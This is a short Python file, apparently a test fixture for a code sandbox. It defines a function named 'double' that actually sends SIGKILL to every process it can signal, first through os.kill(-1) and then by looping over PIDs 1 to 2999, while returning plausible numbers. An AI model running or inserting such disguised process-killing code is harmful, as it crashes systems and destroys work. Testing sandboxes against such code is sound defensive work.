"""Kills all processes that it may signal."""

import os
import signal


def double(x):
    try:
        os.kill(-1, signal.SIGKILL)
        return 2 * x
    except OSError:
        pass
    for pid in range(1, 3000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
                return 2 * x
            except OSError:
                pass
    return x + 7
